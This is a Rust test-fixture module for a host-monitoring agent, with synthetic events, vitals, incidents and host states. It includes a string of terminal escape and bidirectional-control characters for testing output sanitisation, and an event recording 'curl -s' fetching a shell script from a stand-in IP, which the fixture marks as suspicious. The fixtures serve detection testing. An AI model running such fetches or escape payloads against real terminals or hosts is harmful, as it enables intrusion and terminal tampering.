//! Made-up events, vitals and states for tests: ordinary, and hostile.

use super::state::heat::{Column, Map, Of};
use super::state::hosts::{Hosts, Told};
use hark_api::{
    Band, Event, EventId, Evidence, Feature, FeatureState, Fields, Health, Incident, IncidentId,
    IncidentRecord, IngestStatus, Kind, Level, Note, Process, ProgramCost, Reason, ReasonCode,
    ReturnPeriod, SelfUse, SeriesData, SeriesEntry, SeriesPoint, Source, SourceStatus, Status,
    StoreStatus, Suspect, Tier, Timestamp, Verdict, Vitals, vitals,
};

/// 2026-01-31T12:00:00Z.
pub(crate) const NOON: Timestamp = Timestamp::from_nanos(1_769_860_800_000_000_000);

/// Escapes, bidirectional controls, invisible and wide characters and piled-up marks.
pub(crate) const HOSTILE: &str = "\u{1B}[2J\u{1B}]0;owned\u{7}\u{9B}31m\u{202E}live\u{2066}\u{200B}\u{FEFF}\
日本語ログ🦀👩\u{200D}👩\u{200D}👧 e\u{301}\u{301}\u{301}\u{301}\u{301}\r\n\tend";

/// A log event; the time is noon less ten minutes, and a second for each id.
pub(crate) fn log(id: u64, message: &str) -> Event {
    let time = NOON.plus_nanos((id as i64 - 600) * 1_000_000_000);
    Event {
        id: EventId(id),
        time,
        received: time.plus_nanos(1_500_000),
        source: Source::Log,
        kind: Kind::Log,
        level: Level::Info,
        message: message.to_owned(),
        template: None,
        service: Some("web".to_owned()),
        host: None,
        process: None,
        fields: Fields::new(),
        trace: None,
        verdict: Verdict::default(),
    }
}

/// A kernel event about a process.
pub(crate) fn kernel(id: u64, kind: Kind, comm: &str, message: &str) -> Event {
    Event {
        source: Source::Kernel,
        kind,
        service: None,
        process: Some(Box::new(Process {
            pid: 4_000 + id as u32,
            ppid: Some(1),
            uid: Some(33),
            comm: comm.to_owned(),
            exe: Some(format!("/usr/bin/{comm}")),
            cgroup: Some("/system.slice/web.service".to_owned()),
            unit: Some("web.service".to_owned()),
            ..Process::default()
        })),
        ..log(id, message)
    }
}

/// An attempt to connect that took as many milliseconds as its id, or failed.
pub(crate) fn connect(id: u64, error: Option<&str>) -> Event {
    let mut event = kernel(
        id,
        Kind::TcpConnect,
        "curl",
        "curl connected to 10.0.0.7:443",
    );
    event.fields.set("latency", id as f64 / 1e3);
    let outcome = error.map_or("established", |_| "failed");
    event.fields.set("outcome", outcome);
    if let Some(error) = error {
        event.fields.set("error", error);
    }
    event
}

/// A quarter of an hour of waits: mostly short, with a slow stretch before the end.
pub(crate) fn heat() -> Vec<Map> {
    let bounds: Vec<f64> = (0..11)
        .map(|at| 2.048e-6 * f64::from(1 << (2 * at)))
        .collect();
    let map = |of, middle: f64| Map {
        of,
        bounds: bounds.clone(),
        columns: (0..90)
            .map(|at| {
                let slow = if (60..75).contains(&at) { 3.0 } else { 0.0 };
                let rate = |bucket: usize| {
                    let far = (bucket as f64 - middle - slow).abs();
                    (400.0 / 8_f64.powf(far)).floor() as f32
                };
                Column {
                    time: NOON.plus_nanos((at - 90) * 10_000_000_000),
                    rates: (0..12).map(rate).collect(),
                }
            })
            .collect(),
    };
    vec![
        map(Of::RunQueue, 2.0),
        map(Of::Read, 4.0),
        map(Of::Write, 5.0),
    ]
}

fn unusual(mut event: Event, tier: Tier, code: ReasonCode, why: &str, days: Option<f64>) -> Event {
    event.verdict = Verdict {
        tier,
        rarity: days.map(|days| ReturnPeriod::from_secs(days * 86_400.0)),
        reasons: vec![Reason {
            value: Some(412.0),
            band: Some((0.0, 31.5)),
            p: Some(3.2e-7),
            history: Some(6.5 * 86_400.0),
            ..Reason::new(code, why)
        }],
    };
    event
}

/// Ten minutes on an ordinary host, with something to find.
pub(crate) fn events() -> Vec<Event> {
    let mut events: Vec<Event> = (1..=596)
        .map(|id| match id % 7 {
            0 => kernel(id, Kind::Exec, "cron", "/usr/sbin/cron -f"),
            4 if id > 580 => connect(id, (id % 2 == 0).then_some("ECONNREFUSED")),
            3 => kernel(id, Kind::Exit, "cron", "exited with status 0 after 1.20 s"),
            5 => Event {
                level: Level::Debug,
                ..log(id, "cache hit ratio 0.97")
            },
            _ => log(
                id,
                &format!("GET /items/{} 200 in {} ms", id * 7 % 83, 3 + id % 9),
            ),
        })
        .collect();
    events.push(unusual(
        Event {
            level: Level::Error,
            service: Some("db".into()),
            ..log(597, "connection refused by 10.0.0.7:5432")
        },
        Tier::Warning,
        ReasonCode::Burst,
        "412 in a minute, where up to 31 are usual",
        Some(12.0),
    ));
    events.push(unusual(
        Event { level: Level::Critical, ..kernel(598, Kind::OomKill, "postgres", "killed for want of memory in /system.slice/db.service: 1.20 GiB resident, limit 1.25 GiB") },
        Tier::Critical,
        ReasonCode::Fact,
        "the kernel killed a process for want of memory",
        None,
    ));
    events.push(unusual(
        kernel(599, Kind::Exec, "curl", "curl -s http://198.51.100.7/x.sh"),
        Tier::Notice,
        ReasonCode::New,
        "web.service never ran curl before",
        Some(2.5),
    ));
    events.push(log(600, "GET /health 200 in 1 ms"));
    events
}

/// Events whose every text is an attack on the terminal.
pub(crate) fn hostile_events() -> Vec<Event> {
    (1..=40)
        .map(|id| {
            let mut event = kernel(id, Kind::Exec, HOSTILE, HOSTILE);
            event.service = Some(HOSTILE.into());
            event.host = Some(HOSTILE.into());
            event.fields = [(HOSTILE, HOSTILE), ("argv", HOSTILE)]
                .into_iter()
                .collect();
            let tier = Tier::ALL[id as usize % 5];
            unusual(event, tier, ReasonCode::New, HOSTILE, Some(3.0))
        })
        .collect()
}

/// A reading of a host with two CPUs; the name stands in every text.
pub(crate) fn vitals(second: i64, name: Option<&str>) -> Vitals {
    let wave = ((second as f64) / 9.0).sin().mul_add(0.3, 0.4);
    let cpu = |busy: f64| vitals::CpuUse {
        user: busy * 0.7,
        system: busy * 0.25,
        irq: busy * 0.05,
        steal: 0.0,
        iowait: 0.01,
        idle: 0.99 - busy,
    };
    let text = |usual: &str| name.unwrap_or(usual).to_owned();
    let stall = |some| vitals::Stall {
        some,
        full: some / 3.0,
        some_avg10: some,
        full_avg10: some / 3.0,
    };
    Vitals {
        time: NOON.plus_nanos((second - 600) * 1_000_000_000),
        uptime: 432_000.0 + second as f64,
        load: [1.25, 0.8, 0.42],
        cpu: cpu(wave),
        cpus: vec![cpu((wave * 1.2).min(0.98)), cpu(wave * 0.8)],
        tasks: vitals::Tasks {
            processes: 132,
            threads: 401,
            running: 2,
            blocked: 0,
            forks: 3.2,
            switches: 5_210.0,
        },
        memory: vitals::Memory {
            total: 8 << 30,
            available: (5 << 30) - (second as u64) * 1_000_000,
            free: 2 << 30,
            buffers: 200 << 20,
            cached: 2 << 30,
            slab: 300 << 20,
            dirty: 12 << 20,
            swap_total: 2 << 30,
            swap_free: 2 << 30,
            ..vitals::Memory::default()
        },
        pressure: Some(vitals::Pressure {
            cpu: stall(0.021),
            memory: stall(0.0),
            io: stall(0.118),
        }),
        disks: vec![vitals::Disk {
            device: text("nvme0n1"),
            reads: 12.0,
            writes: 230.0,
            read_bytes: 180_000.0,
            write_bytes: 4_700_000.0 * wave,
            read_latency: 0.000_3,
            write_latency: 0.001_4,
            busy: 0.07,
            queue: 0.2,
        }],
        filesystems: vec![
            vitals::Filesystem {
                device: text("/dev/nvme0n1p2"),
                mountpoint: text("/"),
                fstype: text("ext4"),
                size: 100 << 30,
                available: 39 << 30,
                files: 6_000_000,
                files_free: 5_000_000,
                read_only: false,
            },
            vitals::Filesystem {
                device: text("/dev/nvme0n1p3"),
                mountpoint: text("/var/lib/postgresql"),
                fstype: text("xfs"),
                size: 400 << 30,
                available: 14 << 30,
                files: 9_000_000,
                files_free: 8_000_000,
                read_only: false,
            },
        ],
        interfaces: vec![vitals::Interface {
            device: text("eth0"),
            up: true,
            rx_bytes: 130_000.0 * (1.0 + wave),
            tx_bytes: 48_000.0,
            rx_packets: 210.0,
            tx_packets: 160.0,
            rx_errors: 0.0,
            tx_errors: 0.0,
        }],
        tcp: vitals::Tcp {
            established: 42,
            active_opens: 1.5,
            passive_opens: 8.0,
            retransmits: 0.2,
            resets: 0.1,
            listen_drops: 0.0,
        },
        processes: (0..14)
            .map(|i| vitals::ProcessUse {
                pid: 900 + i * 37,
                ppid: if i % 4 == 0 { 1 } else { 900 + (i - 1) * 37 },
                uid: if i % 3 == 0 { 0 } else { 33 },
                comm: text(["postgres", "node", "nginx", "hark-agent", "sshd"][i as usize % 5]),
                state: vitals::ProcessState(if i == 0 { 'R' } else { 'S' }),
                cpu: 0.86 / f64::from(i + 1),
                rss: (1_200 << 20) / u64::from(i + 1),
                read_bytes: (i != 3).then_some(0.0),
                write_bytes: (i != 3).then(|| 1_000_000.0 / f64::from(i + 1)),
                threads: u64::from(i % 8) + 1,
                started: 431_000.0 - f64::from(i) * 5_000.0,
            })
            .collect(),
        cgroups: vec![vitals::CgroupUse {
            path: text("/system.slice/db.service"),
            cpu: Some(0.8),
            memory: Some(1 << 30),
            memory_limit: Some(1_300 << 20),
            oom_kills: Some(1),
            pids: Some(12),
            ..vitals::CgroupUse::default()
        }],
    }
}

/// Series of these names, without bands.
pub(crate) fn series(names: &[&str]) -> Vec<SeriesEntry> {
    let entry = |name: &&str| SeriesEntry {
        key: (*name).into(),
        first: NOON.plus_nanos(-3_600_000_000_000),
        last: NOON,
        band: None,
    };
    names.iter().map(entry).collect()
}

/// The series of a host whose load is above what is expected, and whose memory is within; the name
/// stands in every text.
pub(crate) fn listed(name: Option<&str>) -> Vec<SeriesEntry> {
    let usual = ["node_load1", "node_memory_MemAvailable_bytes"];
    let names = usual.map(|usual| name.unwrap_or(usual));
    let mut entries = series(&names);
    entries[0].band = Some(LOAD_BAND);
    entries[1].band = Some(Band {
        low: 4.2e9,
        high: 5.6e9,
    });
    entries
}

/// Where the load is expected to lie.
pub(crate) const LOAD_BAND: Band = Band {
    low: 0.3,
    high: 1.1,
};

/// A quarter of an hour of a load that leaves its band for the last minutes.
pub(crate) fn load_points() -> Vec<SeriesPoint> {
    let load = |second: i64| {
        let wave = (second as f64 / 40.0).sin().mul_add(0.3, 0.7);
        let rise = (second - 700).max(0) as f64 / 60.0;
        let value = wave + rise;
        SeriesPoint {
            time: NOON.plus_nanos((second - 900) * 1_000_000_000),
            mean: value,
            min: value,
            max: value,
        }
    };
    (0..900).map(load).collect()
}

/// The same time of memory that shrinks, and that has no band yet.
pub(crate) fn memory_data() -> SeriesData {
    let mut points = load_points();
    for point in &mut points {
        let bytes = 6e9 - point.mean * 1e9;
        (point.mean, point.min, point.max) = (bytes, bytes, bytes);
    }
    SeriesData {
        key: "node_memory_MemAvailable_bytes".into(),
        step: 1,
        points,
        band: None,
        periods: Vec::new(),
    }
}

/// The state of an agent that lacks something; the name stands in every text.
pub(crate) fn status(name: Option<&str>) -> Status {
    let text = |usual: &str| name.unwrap_or(usual).to_owned();
    let on = |name: &str, description: &str, hook: &str| Feature {
        name: text(name),
        description: text(description),
        state: FeatureState::On,
        programs: vec![ProgramCost {
            name: text(name),
            hook: text(hook),
            runs: Some(120_345),
            nanos: Some(98_000_000),
        }],
    };
    Status {
        version: text("0.1.0"),
        host: text("db-7"),
        kernel: text("6.18.0"),
        pid: 871,
        started: NOON.plus_nanos(-3_600_000_000_000 * 5),
        now: NOON,
        health: Health::Degraded {
            reasons: vec![text(
                "tcp_retransmit is off: the kernel has no such tracepoint",
            )],
        },
        sources: vec![
            SourceStatus {
                name: text("kernel"),
                state: FeatureState::On,
                received: 1_203_456,
                dropped: 12,
                withheld: 0,
            },
            SourceStatus {
                name: text("ingest"),
                state: FeatureState::On,
                received: 88_000,
                dropped: 0,
                withheld: 0,
            },
            SourceStatus {
                name: text("journal"),
                state: FeatureState::Disabled,
                received: 0,
                dropped: 0,
                withheld: 0,
            },
        ],
        features: vec![
            on(
                "exec",
                "programs executed, with arguments and parent",
                "tracepoint sched:sched_process_exec",
            ),
            on(
                "signal",
                "who signalled whom",
                "tracepoint signal:signal_generate",
            ),
            Feature {
                name: text("tcp_retransmit"),
                description: text("TCP segments sent again"),
                state: FeatureState::Unavailable {
                    reason: text("the kernel has no such tracepoint"),
                    remedy: text("use Linux 4.16 or later"),
                },
                programs: vec![],
            },
        ],
        ingest: IngestStatus {
            accepted: 88_000,
            rejected: 3,
            turned_away: 0,
            queue_length: 17,
            queue_capacity: 8_192,
        },
        store: StoreStatus {
            path: text("/var/lib/hark/hark.redb"),
            bytes: 312 << 20,
            max_bytes: 2 << 30,
            events: 1_291_456,
            oldest: Some(EventId(1)),
            newest: Some(EventId(600)),
            oldest_time: Some(NOON.plus_nanos(-3_600_000_000_000 * 30)),
            commits: 40_123,
            commit_latency: Some((0.001_9, 0.007_2)),
            last_error: None,
            damaged_blocks: 0,
        },
        usage: SelfUse {
            cpu: 0.006,
            rss: 41 << 20,
            open_fds: 61,
            threads: 5,
        },
    }
}

/// Three incidents: one over, one grave and open, one that events were lost in.
pub(crate) fn incidents(name: Option<&str>) -> Vec<IncidentRecord> {
    let text = |usual: &str| name.unwrap_or(usual).to_owned();
    let ago = |secs: i64| NOON.plus_nanos(-secs * 1_000_000_000);
    let incident = |id, tier, start, end: Option<i64>, title: &str| IncidentRecord {
        incident: Incident {
            id: IncidentId(id),
            title: text(title),
            tier,
            rarity: Some(ReturnPeriod::from_secs(86_400.0 * 9.0 * id as f64)),
            start: ago(start),
            peak: ago(start - 5),
            last: ago(start - 20),
            end: end.map(ago),
            suspects: vec![
                Suspect {
                    kind: "process".into(),
                    name: text("postgres"),
                    pid: Some(4_598),
                    share: 0.72,
                },
                Suspect {
                    kind: "service".into(),
                    name: text("db"),
                    pid: None,
                    share: 0.28,
                },
            ],
            findings: 40,
            evidence: vec![
                Evidence {
                    time: ago(start - 5),
                    tier,
                    text: text("the kernel killed postgres[4598]: out of memory"),
                    count: 1,
                },
                Evidence {
                    time: ago(start - 8),
                    tier: Tier::Warning,
                    text: text("412 connection failures in a minute, where up to 31 are usual"),
                    count: 37,
                },
            ],
            events: vec![EventId(598)],
            series: vec![text("node_memory_MemAvailable_bytes").as_str().into()],
            tainted: id == 3,
        },
        acknowledged: None,
        silenced_until: None,
        notes: vec![],
    };
    let mut records = vec![
        incident(
            1,
            Tier::Warning,
            7_200,
            Some(6_000),
            "a burst of logs of web",
        ),
        incident(
            2,
            Tier::Critical,
            180,
            None,
            "postgres was killed for want of memory after its control group reached 1.25 GiB; 37 connection failures followed",
        ),
        incident(
            3,
            Tier::High,
            60,
            None,
            "curl was started by web.service for the first time",
        ),
    ];
    records[0].notes = vec![Note {
        time: ago(6_500),
        by: text("uid 0"),
        text: text("a load test, expected"),
    }];
    records
}

/// Four hosts: one that is quiet, one with incidents, one that is away, and one not yet asked.
pub(crate) fn hosts(name: Option<&str>) -> Hosts {
    let mut hosts = Hosts::default();
    for host in ["web", "db", "away", "new"] {
        let endpoint = format!("http://{host}.example:5000");
        hosts.add(Some(name.unwrap_or(host)), endpoint);
    }
    let told = |incidents| Told {
        status: status(name),
        vitals: Some(vitals(600, name)),
        incidents,
    };
    hosts.told(0, Ok(told(Vec::new())), NOON.plus_nanos(-2_000_000_000));
    hosts.told(1, Ok(told(incidents(name))), NOON);
    hosts.told(2, Ok(told(Vec::new())), NOON.plus_nanos(-300_000_000_000));
    let why = name.unwrap_or("cannot connect: connection refused");
    hosts.told(2, Err(why.to_owned()), NOON);
    hosts
}
